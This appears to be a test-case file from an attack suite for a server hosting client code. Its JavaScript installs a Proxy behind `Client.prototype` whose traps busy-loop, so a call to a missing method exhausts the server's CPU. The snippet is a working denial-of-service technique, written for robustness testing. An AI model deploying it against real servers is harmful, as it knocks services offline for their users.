// Tries: to loop while the server looks for the method that a client calls and that there is none of, in a proxy
// behind `Client.prototype`.
// Attack: call
// Ends: cpu

const forever = () => {
  // Publisher and viewer are there: this is for the attacker.
  while (application.clients.length > 2) {}
};
const trap =
  (fallback) =>
  (...args) => {
    forever();
    return fallback(...args);
  };
Object.setPrototypeOf(
  Client.prototype,
  new Proxy(Object.prototype, {
    get: trap(Reflect.get),
    has: trap(Reflect.has),
    getPrototypeOf: trap(Reflect.getPrototypeOf),
    getOwnPropertyDescriptor: trap(Reflect.getOwnPropertyDescriptor),
  }),
);
